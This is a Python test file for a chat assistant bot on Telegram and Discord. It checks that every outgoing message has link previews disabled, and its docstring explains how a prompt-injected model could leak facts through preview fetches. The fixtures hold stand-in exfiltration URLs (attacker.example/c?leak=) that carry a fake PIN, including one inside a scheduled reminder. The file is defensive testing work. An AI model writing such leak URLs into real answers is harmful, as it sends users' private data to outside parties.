"""A link preview is a fetch nobody approved.

Telegram and Discord fetch the first URL of a bot's message to draw a preview (an "unfurl"), from
their own servers, without the owner clicking anything. So a URL a steered model writes into its
answer (``https://attacker.example/c?leak=<a fact>``) would send the fact out the moment the answer
is delivered, past every rule on tools. Bruce turns previews off in every message it sends:
``link_preview_options.is_disabled`` on Telegram (the bot's defaults, so edits and notices too),
``SUPPRESS_EMBEDS`` on Discord. Both fakes record the request as the platform would receive it.
"""

from __future__ import annotations

import asyncio

import pytest

from tests.channels.discord.test_channel import MESSAGES, dm_channel
from tests.fakes.discord_api import FakeDiscord
from tests.fakes.llm_server import Step
from tests.fakes.telegram_api import FakeTelegramAPI

OWNER = 111
LEAK = "Ana's PIN is 4471"
ANSWER = f"Done. Details: https://attacker.example/c?leak={LEAK.replace(' ', '+')}"
SUPPRESS_EMBEDS = 1 << 2  # Discord's message flag


async def _until(predicate, timeout: float = 20) -> None:
    deadline = asyncio.get_running_loop().time() + timeout
    while not predicate():
        assert asyncio.get_running_loop().time() < deadline, "timed out"
        await asyncio.sleep(0.02)


@pytest.fixture
async def telegram_api():
    async with FakeTelegramAPI() as fake:
        yield fake


@pytest.fixture
async def discord_api():
    async with FakeDiscord() as fake:
        yield fake


async def test_telegram_sends_the_answer_with_previews_off(platform_config, start_app, telegram_api, fake_llm):
    config = platform_config("telegram", {"enabled": True, "token": telegram_api.token,
                                          "api_base": telegram_api.base_url, "allowed_users": [OWNER],
                                          "poll_timeout_s": 1})
    await start_app(config)
    fake_llm.add(Step.text(ANSWER))
    telegram_api.push_message(OWNER, OWNER, "what did the page say?")
    await _until(lambda: any("attacker.example" in c["text"] for c in telegram_api.calls_to("sendMessage")))
    (sent,) = [c for c in telegram_api.calls_to("sendMessage") if "attacker.example" in c["text"]]
    assert sent["link_preview_options"] == {"is_disabled": True}


async def test_every_telegram_message_has_previews_off(platform_config, start_app, telegram_api, fake_llm):
    config = platform_config("telegram", {"enabled": True, "token": telegram_api.token,
                                          "api_base": telegram_api.base_url, "allowed_users": [OWNER],
                                          "poll_timeout_s": 1})
    await start_app(config)
    telegram_api.push_message(OWNER, OWNER, "/help")
    fake_llm.add(Step.text(ANSWER))
    telegram_api.push_message(OWNER, OWNER, "and now?")
    await _until(lambda: len(telegram_api.calls_to("sendMessage")) >= 2)
    for sent in telegram_api.calls_to("sendMessage"):
        assert sent["link_preview_options"] == {"is_disabled": True}, sent["text"][:60]


async def test_discord_sends_the_answer_without_embeds(platform_config, start_app, discord_api, fake_llm):
    fake = discord_api
    config = platform_config("discord", {"enabled": True, "token": fake.token, "api_base": fake.api_base,
                                         "gateway_url": fake.gateway_url, "allowed_users": [OWNER],
                                         "allowed_channels": [fake.guild_channel_id], "ready_timeout_s": 20})
    await start_app(config)
    fake_llm.add(Step.text(ANSWER))
    channel = dm_channel(fake.dm(OWNER, "what did the page say?"))

    def answers() -> list:
        return [c for c in fake.calls_to("POST", MESSAGES)
                if c.path == f"/channels/{channel}/messages" and "attacker.example" in (c.json or {}).get("content", "")]

    await _until(lambda: bool(answers()))
    (sent,) = answers()
    assert sent.json["flags"] & SUPPRESS_EMBEDS


async def test_a_reminder_with_a_composed_link_fires_with_previews_off(
        platform_config, start_app, telegram_api, fake_llm, clock):
    """A message-mode reminder is sent as written (stored, untrusted, without asking) by the
    scheduler through the outbox, not by a turn: its link must not be fetched for a preview either."""
    config = platform_config("telegram", {"enabled": True, "token": telegram_api.token,
                                          "api_base": telegram_api.base_url, "allowed_users": [OWNER],
                                          "poll_timeout_s": 1})
    app = await start_app(config)
    reminder = f"Check https://attacker.example/c?leak={LEAK.replace(' ', '+')}"
    fake_llm.add(Step.tool_calls(("proactive_create", {"execution_mode": "message", "in_seconds": 60,
                                                       "content": reminder})),  # CALL
                 Step.text("Reminder set."))
    telegram_api.push_message(OWNER, OWNER, "remind me in a minute")
    await _until(lambda: any(c["text"] == "Reminder set." for c in telegram_api.calls_to("sendMessage")))
    clock.advance(seconds=60)
    await app.scheduler.sync()
    await app.scheduler.wait_idle()
    await _until(lambda: any("attacker.example" in c["text"] for c in telegram_api.calls_to("sendMessage")))
    (sent,) = [c for c in telegram_api.calls_to("sendMessage") if "attacker.example" in c["text"]]
    assert sent["link_preview_options"] == {"is_disabled": True}
